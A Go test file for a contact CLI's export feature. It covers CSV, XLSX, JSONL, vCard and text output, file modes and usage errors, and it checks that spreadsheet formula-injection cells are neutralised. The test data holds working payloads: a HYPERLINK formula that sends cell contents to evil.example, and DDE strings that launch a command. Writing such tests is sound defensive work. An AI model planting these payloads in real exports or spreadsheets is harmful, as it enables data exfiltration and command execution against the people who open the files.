package cli

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"rolo/contact"
)

// payloads are cells a spreadsheet would run, and harmless look-alikes.
func injectionContact() *contact.Contact {
	return &contact.Contact{
		FirstName: "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", LastName: "+cmd|' /C calc'!A0",
		Company: "-2+3+cmd|' /C calc'!A0", JobTitle: "@SUM(1+1)*cmd|' /C calc'!A0", Description: "\t=1+2",
		Telegram: "@handle", Phones: []contact.Phone{{Number: "+48601234567"}, {Number: "+48221234567"}},
		PaidTotal: contact.Num(-1234.5), BirthDate: "1985-03-07", Emails: []string{"evil@example.com"},
	}
}

func TestExportCSVIsSafeForSpreadsheets(t *testing.T) {
	db := filepath.Join(t.TempDir(), "rolo.db")
	addContacts(t, db, injectionContact())
	cols := "first_name,last_name,company,job_title,description,telegram,phones,paid_total,birth_date,emails"
	read := func(out string) []string {
		rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
		if err != nil || len(rows) != 2 {
			t.Fatalf("csv: %v %q", err, out)
		}
		return rows[1]
	}
	_, out, errs := run(t, "--db", db, "export", "--columns", cols)
	got := read(out)
	for i, v := range got[:6] {
		if !strings.HasPrefix(v, "'") {
			t.Errorf("column %d not neutralised: %q", i, v)
		}
	}
	if got[6] != "+48601234567; +48221234567" || got[7] != "-1234.5" || got[8] != "1985-03-07" || got[9] != "evil@example.com" {
		t.Errorf("harmless values changed: %q", got[6:])
	}
	if !strings.Contains(errs, "exporting 1 contact to stdout (csv, excel profile), columns: first_name, last_name") {
		t.Errorf("no announcement on stderr: %q", errs)
	}
	_, out, _ = run(t, "--db", db, "export", "--columns", cols, "--profile", "raw")
	if got := read(out); got[0] != injectionContact().FirstName || got[4] != "\t=1+2" {
		t.Errorf("raw profile changed values: %q", got)
	}
}

func TestExportFormatsAndFiles(t *testing.T) {
	db := demoStore(t, 120)
	dir := t.TempDir()
	// The format follows -o's extension; stdout gets a one-line summary.
	for name, check := range map[string]func([]byte){
		"a.csv": func(b []byte) {
			if !bytes.HasPrefix(b, []byte("\ufefffirst_name,")) || bytes.Count(b, []byte("\r\n")) < 121 {
				t.Errorf("csv with BOM: %q", b[:40])
			}
		},
		"a.txt": func(b []byte) {
			if !bytes.HasPrefix(b, []byte("\ufefffirst_name\tmiddle_name\t")) {
				t.Errorf("txt: %q", b[:40])
			}
		},
		"a.jsonl": func(b []byte) {
			lines := strings.Split(strings.TrimSpace(string(b)), "\n")
			var m map[string]any
			if len(lines) != 120 || json.Unmarshal([]byte(lines[0]), &m) != nil || m["id"] != 1.0 {
				t.Errorf("jsonl: %d lines, %v", len(lines), m)
			}
			if _, ok := m["consents"].(map[string]any); !ok {
				t.Errorf("jsonl consents: %v", m["consents"])
			}
		},
		"a.vcf": func(b []byte) {
			if bytes.Count(b, []byte("BEGIN:VCARD\r\nVERSION:4.0\r\n")) != 120 {
				t.Errorf("vcf: %q", b[:60])
			}
		},
		"a.xlsx": func(b []byte) {
			f, err := excelize.OpenReader(bytes.NewReader(b))
			if err != nil {
				t.Fatal(err)
			}
			defer f.Close()
			rows, _ := f.GetRows("Contacts")
			if len(rows) != 121 || rows[0][0] != "first_name" {
				t.Errorf("xlsx: %d rows", len(rows))
			}
			cell, _ := excelize.CoordinatesToCellName(slices.Index(rows[0], "phones")+1, 2)
			ty, _ := f.GetCellType("Contacts", cell)
			if ty != excelize.CellTypeInlineString && ty != excelize.CellTypeSharedString {
				t.Errorf("phone cell type %v", ty)
			}
		},
	} {
		out := filepath.Join(dir, name)
		args := []string{"--db", db, "export", "-o", out}
		if strings.HasSuffix(name, ".csv") || strings.HasSuffix(name, ".txt") {
			args = append(args, "--bom")
		}
		code, stdout, errs := run(t, args...)
		if code != ExitOK || stdout != "exported 120 contacts to "+out+"\n" {
			t.Fatalf("export %s: %d %q %q", name, code, stdout, errs)
		}
		b, err := os.ReadFile(out)
		if err != nil {
			t.Fatal(err)
		}
		check(b)
		if fi, _ := os.Stat(out); fi.Mode().Perm() != 0o600 {
			t.Errorf("%s mode %v", name, fi.Mode())
		}
	}
	if left, _ := filepath.Glob(filepath.Join(dir, ".*tmp")); len(left) > 0 {
		t.Errorf("temporary files left: %v", left)
	}
	// --format wins over the extension; --where narrows.
	_, out, errs := run(t, "--db", db, "export", "--format", "jsonl", "--where", "city = Kraków", "--columns", "id,city")
	for _, l := range strings.Split(strings.TrimSpace(out), "\n") {
		if !strings.HasSuffix(l, `"city":"Kraków"}`) {
			t.Errorf("jsonl --where: %q", l)
		}
	}
	if !strings.Contains(errs, "where city is Kraków") {
		t.Errorf("announcement: %q", errs)
	}
}

func TestExportUsageErrors(t *testing.T) {
	db := demoStore(t, 5)
	for _, tt := range []struct {
		args []string
		code int
		want string
	}{
		{[]string{"export", "--format", "pdf"}, ExitUsage, `unknown format "pdf"`},
		{[]string{"export", "--profile", "lotus"}, ExitUsage, `unknown profile "lotus"`},
		{[]string{"export", "--format", "jsonl", "--bom"}, ExitUsage, "--bom is for csv and txt"},
		{[]string{"export", "--columns", "emails,nope"}, ExitUsage, `unknown column "nope"`},
		{[]string{"export", "--where", "status = gone"}, ExitUsage, "status is one of"},
		{[]string{"export", "-o", filepath.Join(t.TempDir(), "missing", "x.csv")}, ExitError, "creating"},
	} {
		code, _, errs := run(t, append([]string{"--db", db}, tt.args...)...)
		if code != tt.code || !strings.Contains(errs, tt.want) {
			t.Errorf("rolo %v: exit %d %q; want %d %q", tt.args, code, errs, tt.code, tt.want)
		}
	}
	// XLSX is not sent to a terminal.
	var out, errb bytes.Buffer
	env := &Env{Stdin: strings.NewReader(""), Stdout: &out, Stderr: &errb, Getenv: func(string) string { return "" },
		Now: time.Now, IsTerminal: func(any) bool { return true }}
	if code := Main(env, []string{"--db", db, "export", "--format", "xlsx"}); code != ExitUsage || !strings.Contains(errb.String(), "-o FILE") {
		t.Errorf("xlsx to a terminal: %d %q", code, errb.String())
	}
}
